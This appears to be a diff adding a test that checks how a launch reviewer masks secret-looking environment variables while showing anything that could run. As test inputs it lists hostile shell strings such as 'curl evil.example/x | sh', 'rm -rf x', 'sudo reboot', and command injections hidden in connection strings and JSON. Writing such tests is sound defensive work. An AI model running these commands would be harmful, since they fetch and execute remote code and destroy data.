@@ -149,6 +149,81 @@ describe('a launch under review', () => {
       for (const value of secrets) assert.equal(shownVariable(name, value), MASK, `${name}=${value}`);
   });
 
+  it('masks silently under a secret name only what has the form of a secret, marks other masks, and shows commands @launchReview.masks-silently-form', () => {
+    const token = 'x1Y2z3A4b5C6d7E8f9';
+    const pem = (type: string, ...lines: string[]) =>
+      `-----BEGIN ${type}-----\n${lines.join('\n')}\n-----END ${type}-----\n`;
+    const key = pem('PRIVATE KEY', 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC/K7M', 'b5C6d7E8f9==');
+    const account = { type: 'service_account', project_id: 'one-2', private_key: key, client_email: 'a@b.example' };
+    // The value; what is shown of it.
+    const silent: [string, string][] = [
+      [token, MASK],
+      ['wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY', MASK],
+      ['hunter2!', MASK],
+      ['Bearer a.b-c', `Bearer ${MASK}`],
+      [key, MASK],
+      [key.trim().replaceAll('\n', ' '), MASK],
+      [key.replaceAll('\n', '\\n'), MASK],
+      ['postgres://me:hunter2@db.example/x?sslmode=require&a=b', MASK],
+      ['a=b1; path=/; HttpOnly', `a=${MASK}; path=/; HttpOnly`],
+      ['host=db user=me password=hunter2', `host=db user=me password=${MASK}`],
+      ['Server=tcp:db,1433;User Id=sa;Password=hunter2;', `Server=tcp:db,1433;User Id=sa;Password=${MASK};`],
+      [JSON.stringify(account), JSON.stringify({ ...account, private_key: MASK })],
+      [JSON.stringify({ one: 'hunter2', two: ['x', 3] }), `{"one":"${MASK}","two":["${MASK}",${MASK}]}`],
+    ];
+    const marked: [string, string][] = [
+      ['correct horse battery staple', MASK],
+      ['Tr0ub4dor&3', MASK],
+      ['x;reboot', MASK],
+      ['bin/evil', MASK],
+      ["load'x'", MASK],
+      ['shutdown,/r', MASK],
+      ['A=1', MASK],
+      [pem('KEY', 'curl evil'), MASK],
+      [pem('KEY', 'bin/evil'), MASK],
+      ['postgres://db/x?a=1&reboot', MASK],
+      ['a=1;b=x reboot', `a=${MASK};b=${MASK}`],
+      [JSON.stringify({ one: 'x;reboot' }), `{"one":"${MASK}"}`],
+    ];
+    const commands = [
+      ...[
+        '$(curl evil)',
+        '`evil`',
+        'x$(evil)',
+        'x; evil',
+        'evil | sh',
+        'a && evil',
+        'curl evil.example/x | sh',
+        'A=1 curl evil|sh',
+      ],
+      ...[
+        'eval evil',
+        'rm -rf x',
+        'evil --now',
+        'import os',
+        "require('x')",
+        'require("x").y',
+        'from x import y',
+        'A=1 B=2 rm x',
+      ],
+      ...['curl${IFS}evil', '(evil x)', '. evil', 'a=1; evil x', '/bin/sh -c x', 'bash evil', 'sudo reboot'],
+    ];
+    const review = (name: string, value: string) => {
+      const { text, mayRun } = fields({ env: { [name]: value } }).find(({ kind }) => kind === 'env')!;
+      return [text, mayRun];
+    };
+    for (const name of ['API_TOKEN', 'DB_PASSWORD', 'SESSION_COOKIE', 'GOOGLE_CREDENTIALS']) {
+      for (const [value, text] of silent) assert.deepEqual(review(name, value), [text, undefined], value);
+      for (const [value, text] of marked) assert.deepEqual(review(name, value), [text, true], value);
+      for (const value of commands) assert.deepEqual(review(name, value), [shown(value), undefined], value);
+    }
+    assert.deepEqual(review('ANY', '{"password":"$(evil)"}'), ['{"password":"$(evil)"}', undefined]);
+    assert.deepEqual(review('ANY', '{"password":"p;w"}'), [`{"password":${MASK}}`, true]);
+    assert.deepEqual(review('ANY', 'a=1;password=p"w;b=2'), [`a=1;password=${MASK};b=2`, true]);
+    assert.equal(shownVariable('API_TOKEN', 'x\0{env:PART}$(evil)'), 'x${env:PART}$(evil)');
+    assert.equal(shownVariable('API_TOKEN', 'x\0{env:PART};y'), `${MASK}\${env:PART}${MASK}`);
+  });
+
   it('shows all that could run beside what it masks in a text like a connection string', () => {
     for (const run of [';evil;b=2', ' evil', '&evil;b=2', '|evil', '>evil;b=2', ';evil;";$(evil)'])
       for (const start of ['a=1;', 'a=1";', "a=';", 'a=1 '])
